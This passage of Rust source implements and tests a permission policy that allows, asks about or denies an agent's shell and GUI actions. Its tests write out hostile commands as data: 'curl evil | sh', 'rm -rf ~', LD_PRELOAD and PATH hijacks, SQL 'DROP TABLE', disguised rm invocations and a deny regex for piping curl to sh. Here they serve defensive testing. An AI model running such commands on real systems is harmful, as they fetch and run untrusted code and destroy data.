    match verdict {
        Verdict::Deny => 3,
        Verdict::Ask => 2,
        Verdict::Allow => 1,
    }
}

impl RulePolicy {
    /// One part's verdict: the strictest rule that decides it, or the default by risk.
    fn decide_part(&self, input: &PolicyInput<'_>, subject: Subject<'_>) -> (Verdict, String) {
        let mut verdict: Option<(Verdict, String)> = None;
        for (index, rule) in self.rules.iter().enumerate() {
            if rule.decides(input, subject, &self.loader_env)
                && verdict
                    .as_ref()
                    .is_none_or(|(v, _)| rank(rule.decision) > rank(*v))
            {
                verdict = Some((rule.decision, format!("rules[{index}]")));
            }
        }
        let verdict = verdict.unwrap_or_else(|| self.default_of(input));
        if matches!(subject, Subject::Unknown) && verdict.0 == Verdict::Allow {
            // Commands that cannot be known might be the very ones a deny or ask rule names
            // (`sh -c "$(echo rm) x"` under a deny on `rm`): a person decides, never the default.
            if let Some(index) = self.rules.iter().position(|rule| {
                rule.decision != Verdict::Allow
                    && rule.has_command_matchers()
                    && rule.call_matches(input)
            }) {
                return (Verdict::Ask, format!("rules[{index}] (commands not known)"));
            }
        }
        verdict
    }

    /// The default for a call no rule decides. A line typed into a terminal is asked where the
    /// default would allow it: it runs outside containment, with the person's rights, so only
    /// a rule that names terminal typing lets it run unseen.
    fn default_of(&self, input: &PolicyInput<'_>) -> (Verdict, String) {
        match self.default_for(input.risk) {
            (Verdict::Allow, _) if input.typed_into_terminal => {
                let rule = match input.facts.opaque {
                    Some(_) => "builtin:opaque-terminal-line",
                    None => "builtin:terminal-typing",
                };
                (Verdict::Ask, rule.into())
            }
            decided => decided,
        }
    }

    fn default_for(&self, risk: Risk) -> (Verdict, String) {
        match risk {
            Risk::Observe => (self.defaults.observe, "defaults.observe".into()),
            Risk::Act => (self.defaults.act, "defaults.act".into()),
            Risk::Secret => (self.defaults.secret, "defaults.secret".into()),
        }
    }
}
#[cfg(test)]
mod tests {
    use super::*;

    /// A glob matches exactly as the regex it stands for (`*` → `.*`, `?` → `.`, anchored, `.`
    /// not crossing a line break), over patterns and texts chosen to trip a matcher up.
    #[test]
    fn globs_match_as_their_regexes_do() {
        let patterns = [
            "", "*", "?", "LD_*", "*_PATH", "a*b*c", "a?c", "**", "*a*", "PYTHON*", "x*?y", "?*?",
            "a.b", "[x]", "a*\nb",
        ];
        let texts = [
            "",
            "a",
            "LD_PRELOAD",
            "LD_",
            "MY_PATH",
            "abc",
            "aXbYc",
            "ac",
            "abbc",
            "aaa",
            "a\nc",
            "LD_\nX",
            "PYTHONPATH",
            "xzy",
            "xy",
            "a.b",
            "aXb",
            "[x]",
            "x",
            "a\nb",
            "ab\nb",
        ];
        for pattern in patterns {
            let mut regex = String::from("^");
            for c in pattern.chars() {
                match c {
                    '*' => regex.push_str(".*"),
                    '?' => regex.push('.'),
                    other => regex.push_str(&regex::escape(&other.to_string())),
                }
            }
            regex.push('$');
            let regex = Regex::new(&regex).unwrap();
            let glob = Glob::new(pattern);
            for text in texts {
                assert_eq!(
                    glob.matches(text),
                    regex.is_match(text),
                    "{pattern:?} against {text:?}"
                );
            }
        }
    }
    use computer_ipc::{Complications, ComputerCall};
    use computer_surfaces::Surface;
    use computer_surfaces::shell::{ShellLimits, ShellSurface};
    use serde_json::{Value, json};

    fn policy(toml_rules: &str) -> RulePolicy {
        let config = crate::config::Config::parse(toml_rules, "test").unwrap();
        let mut policy = config.rule_policy(&[PathBuf::from("/home/me/.config/computer")]);
        policy.home = Some(PathBuf::from("/home/me"));
        policy
    }

    /// Decides a shell run as the daemon does: the real shell surface prepares it and states its
    /// facts.
    fn decide_with(policy: &RulePolicy, args: Value, env: &[(&str, &str)]) -> Decision {
        let caller = Caller {
            uid: 1,
            pid: None,
            agent: "default".into(),
            surfaces: None,
            observe_only: false,
        };
        let call = ComputerCall {
            surface: SurfaceName::Shell,
            command: "run".into(),
            args: args.as_object().unwrap().clone(),
            complications: Complications {
                cwd: Some("/tmp".into()),
                env: env
                    .iter()
                    .map(|(k, v)| (k.to_string(), v.to_string()))
                    .collect(),
                ..Complications::default()
            },
        };
        let action = ShellSurface::new(ShellLimits::default())
            .prepare(&call.command, &call.args, &call.complications)
            .unwrap();
        let facts = action.facts();
        let described = action.describe();
        policy.decide(&PolicyInput::of(
            &caller,
            &call,
            &described,
            action.risk(),
            &facts,
        ))
    }

    fn decide(policy: &RulePolicy, args: Value) -> Decision {
        decide_with(policy, args, &[])
    }

    fn is_deny(decision: &Decision) -> bool {
        matches!(decision, Decision::Deny { .. })
    }

    /// Decides `line` ended by a Return in a terminal: typed into a terminal window through the
    /// gui surface, or sent to a shell session (whose shell runs contained).
    fn decide_line(policy: &RulePolicy, line: &str, surface: SurfaceName) -> Decision {
        let caller = Caller {
            uid: 1,
            pid: None,
            agent: "default".into(),
            surfaces: None,
            observe_only: false,
        };
        let run = ShellSurface::new(ShellLimits::default())
            .prepare(
                "run",
                json!({"script": line}).as_object().unwrap(),
                &Complications::default(),
            )
            .unwrap()
            .facts();
        let facts = ActionFacts {
            terminal: Some(computer_surfaces::TerminalInput {
                app: Some("XTerm".into()),
                window: Some(7),
                lines: vec![line.to_string()],
                opaque: None,
                run: Box::new(run),
            }),
            ..ActionFacts::default()
        };
        let command = match surface {
            SurfaceName::Gui => "key",
            _ => "send",
        };
        policy.decide(&PolicyInput {
            caller: &caller,
            surface,
            command,
            risk: Risk::Act,
            action: "press Return",
            facts: &facts,
            cwd: None,
            typed_into_terminal: false,
        })
    }

    #[test]
    fn a_line_typed_into_a_terminal_window_is_allowed_only_by_a_rule_that_names_terminal_typing() {
        let acts_allowed = "[defaults]\nact = \"allow\"\n";
        let plain_ls = "[[rules]]\nargv0 = [\"ls\"]\ndecision = \"allow\"\n";
        // The gui side of a typed line is allowed too (rules[1]), so the line alone decides.
        let terminal_ls = "[[rules]]\nterminal = true\nargv0 = [\"ls\"]\ndecision = \"allow\"\n\
                           [[rules]]\nsurface = \"gui\"\ndecision = \"allow\"\n";
        let terminal_rm = "[[rules]]\nterminal = true\nargv0 = [\"rm\"]\ndecision = \"deny\"\n";
        let not_terminal_ls =
            "[[rules]]\nterminal = false\nargv0 = [\"ls\"]\ndecision = \"deny\"\n";
        let ask = |rule: &str| Decision::ask(rule);
        let allow = |rule: &str| Decision::Allow { rule: rule.into() };
        let cases: &[(String, &str, SurfaceName, Decision)] = &[
            // An allowing default asks for a typed line, not for a session's.
            (
                acts_allowed.into(),
                "ls",
                SurfaceName::Gui,
                ask("builtin:terminal-typing"),
            ),
            (
                acts_allowed.into(),
                "ls",
                SurfaceName::Shell,
                allow("defaults.act"),
            ),
            // A rule for runs does not reach the person's terminal.
            (
                format!("{acts_allowed}{plain_ls}"),
                "ls",
                SurfaceName::Gui,
                ask("builtin:terminal-typing"),
            ),
            (plain_ls.into(), "ls", SurfaceName::Gui, ask("defaults.act")),
            (
                format!("{acts_allowed}{plain_ls}"),
                "ls",
                SurfaceName::Shell,
                allow("rules[0]"),
            ),
            // One that names terminal typing does, and only for what it names.
            (
                terminal_ls.into(),
                "ls -l",
                SurfaceName::Gui,
                allow("rules[0]"),
            ),
            (
                terminal_ls.into(),
                "ls; touch x",
                SurfaceName::Gui,
                ask("defaults.act"),
            ),
            (
                terminal_ls.into(),
                "ls",
                SurfaceName::Shell,
                ask("defaults.act"),
            ),
            // Deny rules of either kind hold for typed lines.
            (
                format!("{acts_allowed}{terminal_rm}"),
                "rm -rf x",
                SurfaceName::Gui,
                Decision::Deny {
                    rule: "rules[0]".into(),
                    reason: "denied by rules[0]".into(),
                },
            ),
            (
                format!("{acts_allowed}{terminal_rm}"),
                "rm -rf x",
                SurfaceName::Shell,
                allow("defaults.act"),
            ),
            (
                format!("{acts_allowed}{not_terminal_ls}"),
                "ls",
                SurfaceName::Gui,
                ask("builtin:terminal-typing"),
            ),
        ];
        for (config, line, surface, expected) in cases {
            let decided = decide_line(&policy(config), line, *surface);
            assert_eq!(
                &decided, expected,
                "{line:?} on {surface:?} under\n{config}"
            );
        }
    }

    #[test]
    fn commands_that_cannot_be_known_are_asked_under_a_deny_rule_even_when_acts_are_allowed() {
        let p = policy(
            "[defaults]\nact = \"allow\"\n[[rules]]\nargv0 = [\"rm\"]\ndecision = \"deny\"\n",
        );
        for script in [
            "sh -c \"$(echo rm) -rf victim\"",
            "eval \"$CMD\"",
            "$X victim",
        ] {
            let decision = decide(&p, json!({ "script": script }));
            assert!(
                matches!(&decision, Decision::Ask { rule, .. } if rule.starts_with("rules[0]")),
                "{script}: {decision:?}"
            );
        }
        // Scripts whose commands are all known keep the default, or the rule.
        assert_eq!(
            decide(&p, json!({"script": "ls -la; echo done"})).rule(),
            "defaults.act"
        );
        assert!(is_deny(&decide(&p, json!({"script": "true; rm -rf x"}))));
        // Without a rule about commands, an opaque script is the default's to decide.
        let open = policy("[defaults]\nact = \"allow\"\n");
        assert_eq!(
            decide(&open, json!({"script": "eval \"$CMD\""})).rule(),
            "defaults.act"
        );
    }

    #[test]
    fn defaults_by_risk() {
        let p = policy("");
        assert_eq!(
            decide(&p, json!({"argv": ["ls"]})),
            Decision::ask("defaults.act")
        );
        let p = policy("[defaults]\nact = \"allow\"\n");
        assert_eq!(decide(&p, json!({"argv": ["ls"]})).rule(), "defaults.act");
    }

    #[test]
    fn deny_wins_then_ask_then_allow() {
        let p = policy(
            r#"
            [[rules]]
            surface = "shell"
            decision = "allow"
            [[rules]]
            argv0 = ["rm"]
            decision = "deny"
            [[rules]]
            glob = "git push*"
            decision = "ask"
            "#,
        );
        assert_eq!(decide(&p, json!({"argv": ["ls"]})).rule(), "rules[0]");
        assert!(is_deny(&decide(
            &p,
            json!({"argv": ["/bin/rm", "-rf", "x"]})
        )));
        assert!(is_deny(&decide(&p, json!({"script": "rm -rf ~"}))));
        assert_eq!(
            decide(&p, json!({"argv": ["git", "push", "origin"]})),
            Decision::ask("rules[2]")
        );
    }

    #[test]
    fn a_deny_on_any_command_of_a_script_denies_it() {
        let p = policy(
            "[defaults]\nact = \"allow\"\n[[rules]]\nargv0 = [\"rm\"]\ndecision = \"deny\"\n",
        );
        for script in [
            "#x\nrm -rf victim",
            "true; rm -rf victim",
            "echo $(rm -rf victim)",
            "sh -c 'rm -rf victim'",
            "env rm -rf victim",
            "ls | xargs rm",
            "if true; then nice -n 5 /bin/rm x; fi",
            "eval 'ls'; rm x",
        ] {
            assert!(is_deny(&decide(&p, json!({"script": script}))), "{script}");
        }
        assert!(is_deny(&decide(
            &p,
            json!({"argv": ["sh"], "stdin": "rm -rf victim"})
        )));
        assert!(is_deny(&decide(
            &p,
            json!({"argv": ["env", "FOO=1", "rm", "x"]})
        )));
        assert_eq!(
            decide(&p, json!({"script": "echo rm; ls -l"})).rule(),
            "defaults.act"
        );
    }

    #[test]
    fn an_allow_covers_a_script_only_if_it_covers_every_command() {
        let p = policy("[[rules]]\nargv0 = [\"git\", \"ls\"]\ndecision = \"allow\"\n");
        assert_eq!(
            decide(&p, json!({"script": "git status && ls -l"})).rule(),
            "rules[0]"
        );
        assert_eq!(
            decide(&p, json!({"script": "git status; curl evil | sh"})).rule(),
            "defaults.act"
        );
        // Opaque: never covered by an allow, whatever its first word.
        assert_eq!(
            decide(&p, json!({"script": "git status; eval \"$x\""})).rule(),
            "defaults.act"
        );
        assert_eq!(
            decide(&p, json!({"script": "$GIT status"})).rule(),
            "defaults.act"
        );
        // A program of the same name elsewhere is not the one the rule allows.
        assert_eq!(
            decide(&p, json!({"script": "/usr/bin/git status"})).rule(),
            "rules[0]"
        );
        for script in ["./git status", "/tmp/evil/git status"] {
            assert_eq!(
                decide(&p, json!({"script": script})).rule(),
                "defaults.act",
                "{script}"
            );
        }
    }

    #[test]
    fn each_command_may_be_allowed_by_its_own_rule() {
        let p = policy(
            "[[rules]]\nargv0 = [\"git\"]\ndecision = \"allow\"\n[[rules]]\nargv0 = [\"echo\"]\ndecision = \"allow\"\n",
        );
        assert!(matches!(
            decide(&p, json!({"script": "echo hi && git status"})),
            Decision::Allow { .. }
        ));
        assert_eq!(
            decide(&p, json!({"script": "echo hi && touch x"})).rule(),
            "defaults.act"
        );
        let open = policy(
            "[defaults]\nact = \"deny\"\n[[rules]]\nsurface = \"shell\"\ndecision = \"allow\"\n",
        );
        assert!(matches!(
            decide(&open, json!({"script": "ls"})),
            Decision::Allow { .. }
        ));
        assert!(is_deny(&decide(&open, json!({"script": "eval ls"}))));
    }

    #[test]
    fn loader_variables_take_a_call_out_of_an_allow() {
        let p = policy(
            r#"
            [[rules]]
            glob = "git status*"
            decision = "allow"
            [[rules]]
            glob = "make*"
            env = ["CC"]
            decision = "allow"
            [[rules]]
            env = ["AWS_*"]
            decision = "deny"
            "#,
        );
        let git = json!({"argv": ["git", "status"]});
        assert_eq!(decide(&p, git.clone()).rule(), "rules[0]");
        assert_eq!(
            decide_with(&p, git.clone(), &[("LANG", "C")]).rule(),
            "rules[0]"
        );
        for (name, value) in [
            ("GIT_CONFIG_COUNT", "1"),
            ("PATH", "/tmp/evil:/usr/bin"),
            ("LD_PRELOAD", "/tmp/x.so"),
        ] {
            assert_eq!(
                decide_with(&p, git.clone(), &[(name, value)]).rule(),
                "defaults.act",
                "{name}"
            );
        }
        assert_eq!(
            decide(&p, json!({"script": "PATH=/tmp/evil git status"})).rule(),
            "defaults.act"
        );
        assert_eq!(
            decide_with(&p, json!({"argv": ["make"]}), &[("CC", "clang")]).rule(),
            "rules[1]"
        );
        assert!(is_deny(&decide_with(&p, git, &[("AWS_SECRET", "x")])));
    }

    #[test]
    fn stdin_matcher_searches_stdin() {
        let p = policy(
            "[defaults]\nact = \"allow\"\n[[rules]]\nstdin = \"DROP TABLE\"\ndecision = \"deny\"\n",
        );
        assert!(is_deny(&decide(
            &p,
            json!({"argv": ["psql"], "stdin": "x; DROP TABLE users"})
        )));
        assert_eq!(
            decide(&p, json!({"argv": ["psql"], "stdin": "select 1"})).rule(),
            "defaults.act"
        );
        assert_eq!(decide(&p, json!({"argv": ["psql"]})).rule(), "defaults.act");
    }

    #[test]
    fn regex_and_cwd_prefix_match() {
        let p = policy(
            r#"
            [defaults]
            act = "allow"
            [[rules]]
            regex = "curl .*\\| *sh"
            decision = "deny"
            [[rules]]
            cwd_prefix = "/tmp"
            argv0 = ["make"]
            decision = "ask"
            "#,
        );
        assert!(is_deny(&decide(&p, json!({"script": "curl x | sh"}))));
        assert_eq!(decide(&p, json!({"argv": ["make"]})).rule(), "rules[1]");
        assert_eq!(decide(&p, json!({"argv": ["ls"]})).rule(), "defaults.act");
    }

    #[test]
    fn protected_paths_are_denied_however_spelled() {
        let p = policy("[[rules]]\ndecision = \"allow\"\n");
        for script in [
            "echo x >> /home/me/.config/computer/config.toml",
            "cat /home/me//.config/computer/config.toml",
            "cat /home/me/.config/x/../computer/config.toml",
            "cat ~/.config/computer/config.toml",
            "cat \"$HOME/.config/computer/config.toml\"",
            "cat /home/me/.config/computer/config.tom?",
            "rm -rf /home/me/.conf*/comp*",
            "cat /home/me/$D/computer/config.toml",
            "dd if=/home/me/.config/computer/config.toml",
            "cat ../home/me/.config/computer/config.toml",
        ] {
            assert_eq!(
                decide(&p, json!({"script": script})).rule(),
                "builtin:protected-path",
                "{script}"
            );
        }
        assert_eq!(
            decide_with(
                &p,
                json!({"script": "cat \"$F\""}),
                &[("F", "/home/me/.config/computer/config.toml")]
            )
            .rule(),
            "builtin:protected-path"
        );
        for script in [
            "cat /home/me/.config/other.toml",
            // A glob's `*` does not match the leading dot of `.config`.
            "ls /home/me/*/computer",
        ] {
            assert_eq!(
                decide(&p, json!({"script": script})).rule(),
                "rules[0]",
                "{script}"
            );
        }
    }

    /// Decides an ax call whose surface stated `target` (and these receipt args).
    fn decide_target(policy: &RulePolicy, target: Option<TargetFacts>, args: Value) -> Decision {
        let caller = Caller {
            uid: 1,
            pid: None,
            agent: "default".into(),
            surfaces: None,
            observe_only: false,
        };
        let call = ComputerCall {
            surface: SurfaceName::Ax,
            command: "act".into(),
            args: serde_json::Map::new(),
            complications: Complications::default(),
        };
        let facts = ActionFacts {
            target,
            args: Some(args),
            ..ActionFacts::default()
        };
        policy.decide(&PolicyInput::of(&caller, &call, "press", Risk::Act, &facts))
    }

    /// A backend's question for the person (the GNOME gui backend's consent) is asked even
    /// where a rule or the default allows; a deny still denies.
    #[test]
    fn a_consent_question_is_asked_whatever_allows_it() {
        let caller = Caller {
            uid: 1,
            pid: None,
            agent: "default".into(),
            surfaces: None,
            observe_only: false,
        };
        let call = ComputerCall {
            surface: SurfaceName::Gui,
            command: "screenshot".into(),
            args: serde_json::Map::new(),
            complications: Complications::default(),
        };
        let facts = ActionFacts {
            consent: Some("consent needed: a remote-desktop session".into()),
            ..ActionFacts::default()
        };
        let input = PolicyInput::of(&caller, &call, "screenshot", Risk::Observe, &facts);
        let allowing = policy(
            "[defaults]\nobserve = \"allow\"\n[[rules]]\nsurface = \"gui\"\ndecision = \"allow\"\n",
        );
        assert_eq!(allowing.decide(&input), Decision::ask("builtin:consent"));
        let denying = policy("[[rules]]\nsurface = \"gui\"\ndecision = \"deny\"\n");
        assert!(matches!(denying.decide(&input), Decision::Deny { .. }));
        let without = ActionFacts::default();
        let plain = PolicyInput::of(&caller, &call, "screenshot", Risk::Observe, &without);
        assert!(matches!(allowing.decide(&plain), Decision::Allow { .. }));
    }

    fn target(app: Option<&str>, window: Option<&str>, resolved: bool) -> Option<TargetFacts> {
        Some(TargetFacts {
            app: app.map(str::to_string),
            pid: Some(7),
            window: window.map(str::to_string),
            window_id: Some("42".into()),
            resolved,
            ..TargetFacts::default()
        })
    }

    #[test]
    fn app_and_window_matchers_decide_on_the_target() {
        let p = policy(
            r#"
            [[rules]]
            app = "Secrets"
            decision = "deny"
            [[rules]]
            app = "gedit"
            window = "notes.txt"
            decision = "allow"
            [[rules]]
            regex = "rm -rf"
            decision = "deny"
            "#,
        );
        let press = json!({"selector": "button"});
        // Case does not matter: the ax surface picks apps regardless of it.
        assert!(is_deny(&decide_target(
            &p,
            target(Some("secrets"), None, true),
            press.clone()
        )));
        assert_eq!(
            decide_target(
                &p,
                target(Some("gedit"), Some("notes.txt"), true),
                press.clone()
            )
            .rule(),
            "rules[1]"
        );
        // Another window of the same app is not the one the rule allows.
        assert_eq!(
            decide_target(
                &p,
                target(Some("gedit"), Some("other"), true),
                press.clone()
            )
            .rule(),
            "defaults.act"
        );
        // A target known only by its spelling may be any app: deny rules reach it, allow rules
        // do not.
        assert!(is_deny(&decide_target(
            &p,
            target(Some("gedit"), Some("notes.txt"), false),
            press.clone()
        )));
        // No target: no app rule applies.
        assert_eq!(
            decide_target(&p, None, press.clone()).rule(),
            "defaults.act"
        );
        // glob and regex read the args the surface states.
        assert!(is_deny(&decide_target(
            &p,
            None,
            json!({"text": "rm -rf ~\n"})
        )));
    }

    #[test]
    fn bad_regex_fails_at_load() {
        let err =
            crate::config::Config::parse("[[rules]]\nregex = \"(\"\ndecision = \"deny\"\n", "c")
                .unwrap_err()
                .to_string();
        assert!(err.contains("invalid regex"), "{err}");
        assert!(err.contains("line 2"), "{err}");
    }

    #[test]
    fn the_loader_list_is_overridable() {
        let p = policy(
            "[policy]\nloader_env = [\"MY_*\"]\n[[rules]]\nargv0 = [\"ls\"]\ndecision = \"allow\"\n",
        );
        let ls = json!({"argv": ["ls"]});
        assert_eq!(
            decide_with(&p, ls.clone(), &[("PATH", "/x")]).rule(),
            "rules[0]"
        );
        assert_eq!(
            decide_with(&p, ls, &[("MY_HOOK", "x")]).rule(),
            "defaults.act"
        );
    }

    mod generated {
        use super::*;
        use proptest::prelude::*;

        /// Simple commands, some of them `rm` under a disguise the parser must see through.
        fn command() -> impl Strategy<Value = (String, bool)> {
            let plain = prop::sample::select(vec![
                "ls -l",
                "echo hi",
                "true",
                "cat f",
                "git status",
                "printf '%s' x",
                "wc -l",
            ])
            .prop_map(|c| (c.to_string(), false));
            let removing = prop::sample::select(vec![
                "rm -rf victim",
                "/bin/rm x",
                "\\rm x",
                "'rm' x",
                "env A=1 rm x",
                "nice rm x",
                "timeout 5 rm x",
                "sudo rm x",
                "command rm x",
                "sh -c 'rm x'",
                "bash -c \"rm x\"",
                "echo $(rm x)",
                "xargs rm",
                "find . -exec rm {} +",
            ])
            .prop_map(|c| (c.to_string(), true));
            prop_oneof![3 => plain, 1 => removing]
        }

        /// A script built from commands joined the ways a shell joins them.
        fn script() -> impl Strategy<Value = (String, bool)> {
            let joiner = prop::sample::select(vec!["; ", " && ", " || ", " | ", "\n", " & "]);
            (
                prop::collection::vec(command(), 1..6),
                prop::collection::vec(joiner, 6),
                0..4usize,
            )
                .prop_map(|(commands, joiners, wrap)| {
                    let mut text = String::new();
                    let mut any_rm = false;
                    for (i, (command, removes)) in commands.iter().enumerate() {
                        if i > 0 {
                            text.push_str(joiners[i % joiners.len()]);
                        }
                        text.push_str(command);
                        any_rm |= removes;
                    }
                    let text = match wrap {
                        1 => format!("( {text} )"),
                        2 => format!("if true; then {text}\nfi"),
                        3 => format!("#comment\n{{ {text}\n}}"),
                        _ => text,
                    };
                    (text, any_rm)
                })
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(256))]
            #[test]
            fn any_denied_command_denies_the_script((text, any_rm) in script()) {
                let p = policy(
                    "[defaults]\nact = \"allow\"\n[[rules]]\nsurface = \"shell\"\ndecision = \"allow\"\n[[rules]]\nargv0 = [\"rm\"]\ndecision = \"deny\"\n",
                );
                let decision = decide(&p, json!({"script": text}));
                if any_rm {
                    prop_assert!(is_deny(&decision), "{text}: {decision:?}");
                } else {
                    prop_assert!(!is_deny(&decision), "{text}: {decision:?}");
                }
            }
        }
    }
}
